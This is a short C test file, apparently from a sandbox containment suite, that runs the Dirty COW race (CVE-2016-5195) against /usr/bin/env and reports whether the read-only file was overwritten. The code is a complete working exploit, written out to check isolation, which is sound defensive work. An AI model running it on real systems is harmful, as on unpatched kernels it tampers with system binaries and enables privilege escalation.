// attack: dirty_cow
// threat: fs
// expect: CONTAINED: racing madvise(DONTNEED) with writes through /proc/self/mem to a private mapping does not reach a read-only file (CVE-2016-5195)
// wall: 4
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>
static void *map; static volatile int stop;
static void *drop(void *x) { while (!stop) madvise(map, 4096, MADV_DONTNEED); return x; }
static void *put(void *x) { int f = open("/proc/self/mem", O_RDWR); while (!stop) { lseek(f, (off_t)(unsigned long)map, 0); if (write(f, "ESCAPED", 7) < 0) {} } return x; }
int main(void) {
  int f = open("/usr/bin/env", O_RDONLY); char a[16], b[16]; pread(f, a, 16, 0);
  map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, f, 0);
  pthread_t t[4]; for (int i = 0; i < 4; i++) pthread_create(t + i, 0, i % 2 ? drop : put, 0);
  struct timespec s = {1, 500000000}; nanosleep(&s, 0); stop = 1;
  for (int i = 0; i < 4; i++) pthread_join(t[i], 0);
  pread(f, b, 16, 0);
  puts(memcmp(a, b, 16) ? "ESCAPED" : "CONTAINED"); return 0;
}
